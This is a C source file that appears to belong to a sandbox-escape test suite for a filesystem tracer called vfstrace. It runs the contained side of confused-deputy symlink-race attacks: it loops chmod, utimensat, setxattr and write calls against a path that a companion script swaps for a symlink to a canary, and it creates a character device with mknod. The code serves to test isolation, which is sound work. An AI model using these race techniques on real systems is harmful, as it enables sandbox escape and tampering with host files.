/* SPDX-License-Identifier: MIT */
/*
 * The tree's side of the confused-deputy attacks (deputy_*.sh): calls
 * that vfstrace performs itself in the upper, on a view directory that
 * deputy_swap (standing for the tree writing the upper by its host path,
 * which Landlock allows) swaps for a symlink to the canary.
 *
 *   deputy race|race-write|plant DIR FILE
 *     race: chmod DIR/FILE (under -u it is copied up), then make the
 *     file DIR/../ready (deputy_swap waits for it) and loop for 2 s:
 *     chmod, utimensat, setxattr of DIR/FILE, mkdir DIR/n.I (now and
 *     then); race-write
 *     also opens DIR/FILE for writing (only Landlock bounds that one).
 *     plant: stat DIR/FILE (vfstrace looks DIR up in the lower), make
 *     ready, give deputy_swap a second to plant a symlink at DIR in the
 *     upper, then the same calls plus the open for writing: each copies
 *     DIR up.
 *   deputy dev DIR: mknod DIR/newdev (char 1:3), chmod DIR/null 0600.
 *
 * Natively the symlink is in the host's own DIR: the calls reach the
 * canary (the judge sees it).
 */
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#include "escape.h"

static char file[4096], dir[4096];

/* One round of the calls; I numbers the new directory. */
static void calls(int i, int write_too)
{
	struct timespec ts[2] = { { 1, 0 }, { 1, 0 } };
	char sub[4200];
	int fd;

	chmod(file, 0600);
	utimensat(AT_FDCWD, file, ts, 0);
	setxattr(file, "user.pwned", "x", 1, 0);
	snprintf(sub, sizeof(sub), "%s/n.%d", dir, i / 1024);
	if (i % 1024 == 0)
		mkdir(sub, 0755);	/* a few names: a short diff */
	if (!write_too)
		return;
	fd = open(file, O_WRONLY | O_APPEND);
	if (fd >= 0) {
		if (write(fd, "pwned\n", 6) < 0)
			step("write", -1);
		close(fd);
	}
}

static void make_ready(void)
{
	char ready[4200];
	int fd;

	snprintf(ready, sizeof(ready), "%s/../ready", dir);
	fd = open(ready, O_WRONLY | O_CREAT, 0644);
	if (fd < 0)
		setup_fail("cannot make %s: %s", ready, strerror(errno));
	close(fd);
}

static int dev(const char *d)
{
	char p[4200];

	snprintf(p, sizeof(p), "%s/newdev", d);
	step("mknod", mknod(p, S_IFCHR | 0600, makedev(1, 3)));
	snprintf(p, sizeof(p), "%s/null", d);
	step("chmod", chmod(p, 0600));
	return 0;
}

int main(int argc, char **argv)
{
	int i = 0, plant;
	struct stat st;
	time_t end;

	if (argc == 3 && !strcmp(argv[1], "dev"))
		return dev(argv[2]);
	if (argc != 4)
		setup_fail("usage: deputy race|race-write|plant DIR FILE");
	plant = !strcmp(argv[1], "plant");
	snprintf(dir, sizeof(dir), "%s", argv[2]);
	snprintf(file, sizeof(file), "%s/%s", argv[2], argv[3]);
	if (plant)
		step("stat", stat(file, &st));
	else
		step("chmod", chmod(file, 0644));
	make_ready();
	if (plant)
		sleep(1);
	end = time(NULL) + (plant ? 1 : 2);
	while (time(NULL) < end)
		calls(i++, plant || !strcmp(argv[1], "race-write"));
	fprintf(stderr, "%d rounds\n", i);
	return 0;
}
